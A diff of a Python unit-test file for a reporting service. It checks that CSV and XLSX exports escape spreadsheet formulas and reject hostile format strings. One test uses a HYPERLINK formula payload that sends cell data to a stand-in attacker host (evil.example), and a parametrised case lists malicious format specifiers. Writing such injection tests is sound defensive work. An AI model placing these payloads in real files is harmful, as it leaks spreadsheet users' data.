@@ -70,12 +70,17 @@ def test_exports_write_formulas_as_text_and_read_them_back():
     assert plan.docs[0][1]["name"] == name
 
 
-def test_reports_write_kegiatan_titles_as_text():
+def test_compiled_reports_write_kegiatan_titles_as_text():
     from services.reporting.domain import reports
+    from tests.unit.test_reporting_reports import LISTED
 
-    out = sheets.csv_row(["=1+1", 3, None])
-    assert out == ["'=1+1", 3, ""]
-    assert hasattr(reports, "to_xlsx")
+    title = '=HYPERLINK("http://evil.example/?d="&A3,"Klik")'
+    figures = {**LISTED, "kegiatan_list": [{**LISTED["kegiatan_list"][0], "title": title, "venue_name": "Aula\x01"}]}
+    table = list(csv.reader(io.StringIO(reports.to_csv(figures).decode("utf-8-sig"))))
+    assert ["'" + title] == [c for row in table for c in row if "HYPERLINK" in c]
+    wb = load_workbook(io.BytesIO(reports.to_xlsx(figures, "Laporan")))
+    cells = [c for row in wb[reports.LIST_TITLE].iter_rows() for c in row if "HYPERLINK" in str(c.value)]
+    assert cells[0].value == title and cells[0].data_type == "s"
 
 
 @pytest.mark.parametrize("fmt", ["{seq:>300000000}", "{seq.__class__}", "{seq[0]}", "{seq!r}", "{x}/{seq}",
